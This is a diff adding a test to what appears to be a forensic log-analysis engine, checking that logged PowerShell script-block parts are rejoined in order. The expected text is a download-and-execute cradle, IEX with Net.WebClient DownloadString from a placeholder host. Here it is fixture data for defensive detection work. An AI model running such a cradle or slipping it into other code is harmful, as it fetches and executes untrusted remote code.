@@ -255,3 +255,14 @@ def test_findings_are_cached_in_the_case_and_computed_again_only_when_a_file_is_
         cur = case.cursor()
         assert findings.current(cur, findings.load())
         assert findings.listing(cur, rule="lsass-handle-audit")
+
+
+def test_the_detail_of_a_script_block_part_holds_the_whole_script_joined_in_order(case_path: Path) -> None:
+    from engine import views
+
+    with Case(case_path, read_only=True) as case:
+        cur = case.cursor()
+        (eid,) = cur.execute("SELECT eid FROM events WHERE host = 'PS-P' AND script_part = 2").fetchall()[0]
+        script = views.detail(cur, int(eid))["script"]  # type: ignore[index]
+    assert script == {"parts": 2, "total": 2,
+                      "text": "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')Write-Output done"}
